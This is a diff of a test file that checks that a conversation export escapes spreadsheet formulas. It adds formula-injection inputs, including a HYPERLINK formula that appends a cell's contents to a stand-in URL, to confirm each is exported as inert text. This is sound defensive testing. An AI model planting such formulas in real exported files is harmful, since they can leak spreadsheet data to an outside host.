@@ -54,13 +54,22 @@ test('a conversation is exported oldest first, with who wrote each text and what
   ]);
 });
 
-test.each(['=1+1', '+1+1', '-1', '@SUM(A1)', '\t=1', '=HYPERLINK("http://x","y")'])(
-  'the text %j is exported as text, which no spreadsheet computes',
-  (text) => {
-    const [row] = read(exported([inbound(text, '2026-03-20T15:00:00.000Z')]));
-    expect(row?.['Text']).toBe(`'${text}`);
-  },
-);
+test.each([
+  '=1+1',
+  '+1+1',
+  '-1',
+  '@SUM(A1)',
+  '\t=1',
+  '\n=1',
+  '\uff1d1+1',
+  "'=1+1",
+  '=HYPERLINK("http://x","y")',
+  '=HYPERLINK("http://x/?"&C2,"Invoice")\nThank you',
+  '@SUM(A1)\n\n',
+])('the text %j is exported as text, which no spreadsheet computes', (text) => {
+  const [row] = read(exported([inbound(text, '2026-03-20T15:00:00.000Z')]));
+  expect(row?.['Text']).toBe(`'${text}`);
+});
 
 test('quotes, commas, line breaks and emoji survive', () => {
   const text = 'He said "no", twice,\nand left 🏠';
